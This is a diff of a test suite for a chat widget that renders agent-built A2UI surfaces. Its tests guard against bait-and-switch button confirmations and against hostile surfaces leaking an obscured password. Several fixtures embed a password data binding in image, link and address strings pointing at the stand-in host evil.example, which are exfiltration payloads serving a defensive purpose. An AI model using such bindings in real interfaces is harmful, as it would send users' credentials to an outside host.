@@ -158,6 +158,82 @@ describe('an A2UI surface', () => {
         press();
         expect(sent).to.have.length(1);
       });
+
+    const transfer = (more: { readonly amount?: string; readonly label?: string; readonly payload?: unknown } = {}) => {
+      const { amount = '5', label = 'Euros', payload = '' } = more;
+      return [
+        create('s', { sendDataModel: true }),
+        components([
+          { id: 'root', ...column('amount', 'ok') },
+          { id: 'amount', component: 'TextField', label, value: { path: '/amount' } },
+          text('oktext', 'Confirm'),
+          { id: 'ok', component: 'Button', child: 'oktext', action: { event: { name: 'ok', context: { payload } } } },
+        ]),
+        data('/', { amount }),
+      ];
+    };
+    for (const { name, later, steady = 0, isSent = false } of [
+      { name: 'a value that is sent with all data', later: [...transfer(), data('/amount', '5000')] },
+      {
+        name: 'the label of a field that is sent with all data',
+        later: [...transfer(), ...transfer({ label: 'Thousands of euros' }).slice(1, 2)],
+      },
+      {
+        name: 'the label of a field that had not changed for a while',
+        later: transfer({ label: 'Thousands of euros' }),
+        steady: 2100,
+      },
+      { name: 'a value, by other messages in place of as many', later: transfer({ amount: '5000' }) },
+      { name: 'what is sent, by other messages in place of as many', later: transfer({ payload: 'all' }) },
+      { name: 'nothing, by messages in place of as many', later: transfer(), isSent: true },
+    ])
+      it(`${name}: is ${isSent ? '' : 'not '}sent with a press`, async () => {
+        const { chat, element } = await show(transfer());
+        const sent: unknown[] = [];
+        chat.addEventListener('agent-chat-action', (event) => {
+          event.preventDefault();
+          sent.push(event.detail.action);
+        });
+        await new Promise((resolve) => setTimeout(resolve, steady));
+        const host = element.closest<AgentChatSurface>('agent-chat-surface')!;
+        update(chat, [{ type: 'ui', id: 'u', ui: { kind: 'a2ui', messages: later } }]);
+        await waitUntil(() => JSON.stringify(host.messages) === JSON.stringify(later));
+        await host.updateComplete;
+        const press = (): void => {
+          const button = named<HTMLButtonElement>(element, 'Confirm');
+          button.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, detail: 1 }));
+        };
+        press();
+        expect(sent).to.have.length(isSent ? 1 : 0);
+        await new Promise((resolve) => setTimeout(resolve, 600));
+        press();
+        expect(sent).to.have.length(1);
+      });
+
+    it('something else all the time: is sent with what the user has entered meanwhile', async () => {
+      let messages: readonly unknown[] = transfer({ payload: { path: '/amount' } });
+      const { chat, element } = await show(messages);
+      const sent: unknown[] = [];
+      chat.addEventListener('agent-chat-action', (event) => {
+        event.preventDefault();
+        sent.push((event.detail.payload as { context: unknown }).context);
+      });
+      const host = element.closest<AgentChatSurface>('agent-chat-surface')!;
+      const tick = async (): Promise<void> => {
+        messages = [...messages, data('/clock', messages.length)];
+        update(chat, [{ type: 'ui', id: 'u', ui: { kind: 'a2ui', messages } }]);
+        await waitUntil(() => host.messages.length === messages.length);
+        await host.updateComplete;
+      };
+      await new Promise((resolve) => setTimeout(resolve, 600));
+      await tick();
+      enter(control(element, 'Euros'), '7');
+      await host.updateComplete;
+      await tick();
+      const button = named<HTMLButtonElement>(element, 'Confirm');
+      button.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, detail: 1 }));
+      expect(sent).to.deep.equal([{ payload: '7' }]);
+    });
   });
 
   it('keeps input local until a button is pressed, and sends it with the action', async () => {
@@ -1339,6 +1415,94 @@ describe('a hostile surface in the widget', () => {
       expect(exported).to.contain('Sign in').and.not.contain('hunter2');
     });
 
+  for (const [name, labels, said] of [
+    ['an option', { option: { path: '/p' } }, 'Sign in\nPassword: ••••••\n••••••'],
+    ['a field', { choice: { path: '/p' } }, 'Sign in\nPassword: ••••••\n••••••'],
+    ['the button', { button: { path: '/p' } }, '••••••\nPassword: ••••••\nRemember: Yes'],
+    ['nothing', {}, 'Sign in\nPassword: ••••••\nRemember: Yes'],
+  ] as readonly (readonly [string, Record<string, unknown>, string])[])
+    it(`rule 30: a password that is the label of ${name} is not said`, async () => {
+      const { chat, element } = await show([
+        create(),
+        components([
+          { id: 'root', ...column('p', 'choice', 'go') },
+          { id: 'p', component: 'TextField', label: 'Password', variant: 'obscured', value: { path: '/p' } },
+          {
+            id: 'choice',
+            component: 'ChoicePicker',
+            label: labels['choice'] ?? 'Remember',
+            options: [{ label: labels['option'] ?? 'Yes', value: 'y' }],
+            value: { path: '/chosen' },
+          },
+          text('l', labels['button'] ?? 'Sign in'),
+          {
+            id: 'go',
+            component: 'Button',
+            child: 'l',
+            action: { event: { name: 'go', context: { p: { path: '/p' }, chosen: { path: '/chosen' } } } },
+          },
+        ]),
+        data('/', { p: '', chosen: ['y'] }),
+      ]);
+      enter(control(element, 'Password'), 'hunter2');
+      await element.closest<AgentChatSurface>('agent-chat-surface')!.updateComplete;
+      const emitted = next(chat, 'agent-chat-action');
+      [...element.querySelectorAll('button')].at(-1)?.click();
+      expect((await emitted).detail.payload).to.have.property('text', said);
+    });
+
+  for (const [name, field, value, list] of [
+    ['the value of the option', '/p', { path: '/p' }, undefined],
+    ['beside the value of the option', '/list/0', 'x', '/list'],
+    ['the value of the option, in a list of the widget only', '/p', { path: '/p' }, ''],
+  ] as const)
+    it(`rule 30: a password with which an option is chosen is neither shown nor stored: ${name}`, async () => {
+      const chosen = { path: list ?? '/chosen' };
+      const { chat, element } = await show([
+        create(),
+        components([
+          { id: 'root', ...column('p', 'choice', 'go') },
+          { id: 'p', component: 'TextField', label: 'Password', variant: 'obscured', value: { path: field } },
+          {
+            id: 'choice',
+            component: 'ChoicePicker',
+            variant: 'multipleSelection',
+            options: [{ label: 'Remember me', value }],
+            ...(list !== '' && { value: chosen }),
+          },
+          text('l', 'Sign in'),
+          {
+            id: 'go',
+            component: 'Button',
+            child: 'l',
+            action: {
+              event: {
+                name: 'go',
+                context: { login: { call: 'formatString', args: { value: `\${${chosen.path}/0}` } } },
+              },
+            },
+          },
+        ]),
+        data('/', { p: '', list: [''], chosen: [] }),
+      ]);
+      const host = element.closest<AgentChatSurface>('agent-chat-surface')!;
+      enter(control(element, 'Password'), 'hunter2');
+      await host.updateComplete;
+      control(element, 'Remember me').click();
+      await host.updateComplete;
+      expect(JSON.stringify(host.context.draft?.read())).not.to.contain('hunter2');
+      const emitted = next(chat, 'agent-chat-action');
+      named(element, 'Sign in').click();
+      expect((await emitted).detail.payload)
+        .to.have.property('text')
+        .that.does.not.contain('hunter2');
+      await waitUntil(() => chat.messages.length > 1);
+      const exported = await chat.exportConversation('json');
+      // Once in the message with the surface, and once in that of the user.
+      expect(exported.split('Sign in')).to.have.length(3);
+      expect(exported).not.to.contain('hunter2');
+    });
+
   for (const [label, variant, shown] of [
     ['Code', 'shortText', 'Continue (evil.example)'],
     ['Password', 'obscured', 'Continue'],
@@ -1375,6 +1539,7 @@ describe('a hostile surface in the widget', () => {
       const address = 'https://evil.example/${/p}';
       const formatted = (value: string): object => ({ call: 'formatString', args: { value } });
       const texts = [`![a](${address}.png)`, `[b](${address})`, `[c]\n\n[c]: ${address}`, `<a href="${address}">d</a>`];
+      texts.push(address, 'www.evil.example/${/p}', '${/p}@evil.example');
       const { element } = await show(
         surface(
           column('p', 'image', ...texts.map((_, id) => String(id))),
